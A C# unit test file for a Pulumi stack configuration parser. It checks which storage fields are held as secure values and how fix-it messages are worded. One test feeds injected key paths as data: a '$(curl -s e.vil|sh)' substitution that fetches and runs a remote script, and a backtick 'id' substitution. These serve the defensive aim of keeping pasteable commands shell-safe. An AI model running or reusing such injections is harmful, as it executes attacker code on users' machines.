
namespace StackPlanning.Tests;

/// <summary>Each secret is held secure on its own path, and nothing else is.</summary>
public sealed class SecureValueTests : IDisposable
{
    private const string R2 = """{ "name": "rec", "cloud": "s3compatible", "endpoint": "https://acct.r2.cloudflarestorage.com", "bucket": "calls", "region": "auto", "accessKeyId": "0123456789abcdef0123", "secretAccessKey": "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef" }""";

    private readonly PulumiProjectFolder _project = new("secure-");

    public void Dispose() => _project.Dispose();

    /// <summary>The R2 stack with both its keys held secure, and the given paths besides.</summary>
    private static StackConfigInput R2WithSecureKeys(params string[] alsoSecure) =>
        StackInputs.WithStorages(R2) with { SecurePaths = new HashSet<string>(["storages[0].accessKeyId", "storages[0].secretAccessKey", .. alsoSecure]) };

    [Fact]
    public void A_plain_secret_key_is_refused_though_another_key_of_the_storages_is_secure()
    {
        var input = StackInputs.WithStorages(R2) with
        {
            StoragesEncrypted = true,
            SecurePaths = new HashSet<string> { "storages[0].accessKeyId" },
        };

        ConfigRefusal.AssertRefusedOnlyAt(input, "storages[0].secretAccessKey", "is kept in plain text");
    }

    [Fact]
    public void Both_store_keys_secure_plan()
    {
        var input = R2WithSecureKeys();

        Assert.Single(StackConfigParser.Parse(input).Storages);
    }

    [Theory]
    [InlineData("storages[0].name", "is held as a secure value, but it is not a secret")]
    [InlineData("storages[0].bucket", "is held as a secure value, but it is not a secret")]
    [InlineData("storages[0].endpoint", "is held as a secure value, but it is not a secret")]
    [InlineData("storages[0].region", "is held as a secure value, but it is not a secret")]
    [InlineData("production", "is held as a secure value, but it is not a secret")]
    [InlineData("bindings.default", "is held as a secure value, but it is not a secret")]
    [InlineData("tags.team", "is held as a secure value, but it is not a secret")]
    [InlineData("storages[1]", "is held as one secure value")]
    [InlineData("storages", "is held as one secure value")]
    public void A_secure_value_where_a_plain_one_is_required_is_refused(string path, string message)
    {
        ConfigRefusal.AssertRefusedAt(R2WithSecureKeys(path), path, message);
    }

    /// <summary>The key path is the file's text: a command to paste carries it only where no shell would run any of it.</summary>
    [Theory]
    [InlineData("tags.team", "with `pulumi config set --path 'tags.team' <value>`.")]
    [InlineData("tags['$(curl -s e.vil|sh)']", "with `pulumi config set --path` and the key path named here.")]
    [InlineData("tags[\"a`id`\"]", "with `pulumi config set --path` and the key path named here.")]
    public void The_fix_for_a_secure_value_that_is_not_a_secret_names_its_path_in_a_command_only_when_a_shell_reads_nothing_in_it(string path, string command)
    {
        var error = Assert.Throws<StackConfigException>(() => StackConfigParser.Parse(R2WithSecureKeys(path)));

        var problem = Assert.Single(error.Problems);
        Assert.EndsWith($"is held as a secure value, but it is not a secret: set it in plain text {command}", problem.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_stack_file_marks_each_secure_value_by_its_path_and_refuses_a_secure_bucket()
    {
        var file = Write("""
            config:
              recording-storage:storages:
                - name: rec
                  cloud: s3compatible
                  endpoint: https://acct.r2.cloudflarestorage.com
                  bucket:
                    secure: v1:AAAA
                  accessKeyId:
                    secure: v1:BBBB
                  secretAccessKey: plain-text-secret-0123456789abcdef0123456789
            """);

        var input = file.ToInput(streamCredentialsSupplied: true);
        var error = Assert.Throws<StackConfigException>(() => StackConfigParser.Parse(input));

        Assert.Equal(["storages[0].accessKeyId", "storages[0].bucket"], input.SecurePaths!.Order(StringComparer.Ordinal));
        Assert.Contains(error.Problems, p => p.Field == "storages[0].bucket" && p.Message.StartsWith("is held as a secure value", StringComparison.Ordinal));
        Assert.Contains(error.Problems, p => p.Field == "storages[0].secretAccessKey" && p.Message.StartsWith("is kept in plain text", StringComparison.Ordinal));
        Assert.DoesNotContain(error.Problems, p => p.Field == "storages[0].accessKeyId");
        Assert.DoesNotContain(StackFile.SecureValueStandIn, error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Secure_store_keys_read_from_a_stack_file_plan_without_their_shape_checked()
    {
        var file = Write("""
            config:
              recording-storage:production: false
              recording-storage:storages:
                - name: rec
                  cloud: s3compatible
                  endpoint: https://acct.r2.cloudflarestorage.com
                  bucket: calls
                  accessKeyId:
                    secure: v1:AAAA
                  secretAccessKey:
                    secure: v1:BBBB
            """);

        var plan = StackPlanner.Plan(file.ToInput(streamCredentialsSupplied: true));

        Assert.Equal("calls", Assert.IsType<S3CompatibleStoragePlan>(Assert.Single(plan.Storages)).Bucket);
    }

    [Fact]
    public void The_program_finds_the_secure_paths_in_the_stack_file_beside_the_project_and_none_without_one()
    {
        Write("""
            config:
              recording-storage:storages:
                - name: rec
                  cloud: s3compatible
                  accessKeyId:
                    secure: v1:AAAA
                  secretAccessKey:
                    secure: v1:BBBB
              streamstorage:apiSecret:
                secure: v1:CCCC
            """);

        Assert.Equal(["storages[0].accessKeyId", "storages[0].secretAccessKey"], StackFile.SecurePathsIn(_project.FullName, "qa")!.Order(StringComparer.Ordinal));
        Assert.Null(StackFile.SecurePathsIn(_project.FullName, "prod"));
    }

    private StackFile Write(string yaml)
    {
        return StackFile.Read(_project.WriteStack("qa", yaml));
    }
}
